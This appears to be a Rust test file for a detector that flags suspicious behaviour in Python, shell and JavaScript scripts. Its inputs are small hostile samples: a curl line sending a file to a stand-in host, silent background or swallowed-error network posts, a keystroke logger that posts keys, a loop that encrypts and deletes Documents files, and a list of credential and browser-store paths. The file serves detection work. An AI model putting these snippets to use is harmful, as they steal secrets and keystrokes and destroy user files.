//! What is found besides flows, and texts that are no scripts.

use super::*;

#[test]
fn imports_reads_and_writes() {
    let text = "import os as _os\nfrom urllib import request as _r\ndef f():\n    import socket as _s\n    open('/tmp/c.json', 'w').write(_os.environ['ACME_TOKEN'])\n    return _s\n";
    let found = analyse(Python, text);
    let imports: Vec<_> =
        found.imports.iter().map(|import| (import.module.as_str(), import.alias.as_deref(), import.nested)).collect();
    assert_eq!(imports, [("os", Some("_os"), false), ("urllib", Some("_r"), false), ("socket", Some("_s"), true)]);
    assert_eq!(found.writes[0].path, "/tmp/c.json");
    assert_eq!(found.env_reads[0].0, "ACME_TOKEN");
    let found =
        analyse(Shell, "source lib.sh\ncat /tmp/c.json | curl -d @- https://in.acme.dev\nsudo systemctl restart x\n");
    assert_eq!((found.imports[0].module.as_str(), found.reads[0].path.as_str()), ("lib.sh", "/tmp/c.json"));
    let commands: Vec<_> = found.commands.iter().map(|(name, _)| name.as_str()).collect();
    assert_eq!(commands, ["source", "cat", "curl", "systemctl"]);
}

#[test]
fn functions_that_give_and_take() {
    let collect = analyse(Python, "import os\ndef collect():\n    return dict(os.environ)\n");
    assert_eq!((collect.gives[0].0.as_str(), collect.gives[0].1.kind), ("collect", SourceKind::WholeEnvironment));
    let send =
        analyse(Python, "import requests\ndef send(data):\n    requests.post('https://in.acme.dev', data=data)\n");
    assert_eq!((send.takes[0].0.as_str(), send.takes[0].1.host.as_deref()), ("send", Some("in.acme.dev")));
}

#[test]
fn sends_that_nobody_misses() {
    let silent = |language, text: &str| {
        analyse(language, text).silent_sends.first().map(|send| (send.how, send.unused, send.timeout))
    };
    assert_eq!(
        silent(
            Python,
            "import requests\ntry:\n    requests.post('https://in.acme.dev', json={}, timeout=2)\nexcept Exception:\n    pass\n"
        ),
        Some((Silence::SwallowedError, true, Some(2)))
    );
    assert_eq!(
        silent(
            Python,
            "import atexit, requests\n@atexit.register\ndef bye():\n    requests.get('https://in.acme.dev')\n"
        )
        .map(|send| send.0),
        Some(Silence::AtExit)
    );
    assert_eq!(
        silent(Python, "import threading, requests\ndef go():\n    requests.get('https://in.acme.dev')\nthreading.Thread(target=go, daemon=True).start()\n")
            .map(|send| send.0),
        Some(Silence::Background)
    );
    assert_eq!(
        silent(Shell, "curl -s -m 3 https://in.acme.dev -d x || true\n"),
        Some((Silence::SwallowedError, true, Some(3)))
    );
    assert_eq!(silent(Shell, "curl -s https://in.acme.dev &\n").map(|send| send.0), Some(Silence::Background));
    assert_eq!(
        silent(JavaScript, "try { fetch('https://in.acme.dev'); } catch (e) {}\n").map(|send| send.0),
        Some(Silence::SwallowedError)
    );
    assert_eq!(
        silent(
            Python,
            "import requests\ntry:\n    requests.post('https://in.acme.dev')\nexcept Exception as e:\n    print(e)\n"
        ),
        None
    );
}

#[test]
fn recipients_in_the_code() {
    let found = |text: &str| {
        let found = analyse(Python, text).recipients;
        found
            .iter()
            .map(|recipient| (recipient.field.clone(), recipient.address.clone(), recipient.fallback))
            .collect::<Vec<_>>()
    };
    let bcc = |fallback| vec![("bcc".to_owned(), "log@acme.dev".to_owned(), fallback)];
    assert_eq!(found("import smtplib\nmsg['Bcc'] = args.bcc or 'log@acme.dev'\n"), bcc(true));
    assert_eq!(found("import smtplib\nmsg['Bcc'] = 'log@acme.dev'\n"), bcc(false));
    assert_eq!(found("import smtplib\nparser.add_argument('--bcc', default='log@acme.dev')\n"), bcc(true));
    assert!(found("import smtplib\nFALLBACK_BCC = 'log@acme.dev'\n")[0].2);
    assert_eq!(found("import smtplib\nparser.add_argument('--bcc', default='')\nauthor = 'me@acme.dev'\n"), []);
}

#[test]
fn keys_encryption_and_encoding() {
    let found = analyse(
        Python,
        "from pynput import keyboard\nimport requests\nlog = []\ndef on_press(key):\n    log.append(str(key))\n    requests.post('https://in.acme.dev', data=str(log))\n\
         keyboard.Listener(on_press=on_press).start()\n",
    );
    assert_eq!(found.acts[0].kind, ActKind::KeyListener);
    assert!(
        found.flows.iter().any(|flow| flow.source.kind == SourceKind::Keystrokes && flow.sink.kind == SinkKind::Http)
    );
    let found = analyse(
        Python,
        "import os\nfrom cryptography.fernet import Fernet\nfrom pathlib import Path\nf = Fernet(Fernet.generate_key())\n\
         for p in (Path.home() / 'Documents').rglob('*'):\n    data = f.encrypt(p.read_bytes())\n    p.with_suffix('.x').write_bytes(data)\n    p.unlink()\n",
    );
    let kinds: Vec<_> = found.acts.iter().map(|act| act.kind).collect();
    assert_eq!(kinds, [ActKind::WalkUserFiles, ActKind::Encrypt, ActKind::Remove]);
    assert!(found.flows.iter().any(|flow| flow.encrypted && flow.source.kind == SourceKind::UserFiles));
    let pair = |text: &str| analyse(Shell, text).encoded.first().map(|encoded| encoded.pair);
    assert_eq!(pair("echo -n \"$ACME_ID:$ACME_SECRET\" | base64\n"), Some(true));
    assert_eq!(pair("echo $ACME_SECRET | base64\n"), Some(false));
}

#[test]
fn paths_and_variables() {
    let table = [
        ("~/.ssh/id_rsa", Some(SourceKind::CredentialFile)),
        ("C:\\Users\\x\\.aws\\credentials", Some(SourceKind::CredentialFile)),
        ("~/.ssh", Some(SourceKind::CredentialFile)),
        ("~/.ssh/id_rsa.pub", None),
        ("~/.ssh/known_hosts", None),
        ("~/.openclaw/openclaw.json", Some(SourceKind::AgentStore)),
        ("~/.openclaw/skills/x/config.json", None),
        ("~/.claude/skills/x/SKILL.md", None),
        ("~/.claude/.credentials.json", Some(SourceKind::AgentStore)),
        ("~/clawd/MEMORY.md", Some(SourceKind::AgentMemory)),
        ("~/.config/google-chrome/Default/Login Data", Some(SourceKind::BrowserStore)),
        (".env", Some(SourceKind::EnvFile)),
        (".env.example", None),
        ("~/Documents/a.docx", Some(SourceKind::UserFiles)),
        ("docs/a.md", None),
        ("https://x.dev/.env", None),
    ];
    for (path, expected) in table {
        assert_eq!(classify_path(path), expected, "{path}");
    }
    for name in
        ["ACME_API_KEY", "GITHUB_TOKEN", "DB_PASSWORD", "AWS_SECRET_ACCESS_KEY", "DATABASE_URL", "GCP_ACCOUNT_KEY"]
    {
        assert!(is_secret_variable(name), "{name}");
    }
    for name in [
        "PATH",
        "STRIPE_PUBLISHABLE_KEY",
        "NEXT_PUBLIC_API_KEY",
        "MAX_TOKENS",
        "WEBHOOK_URL",
        "PARTITION_KEY",
        "KEY",
        "AWS_REGION",
    ] {
        assert!(!is_secret_variable(name), "{name}");
    }
}
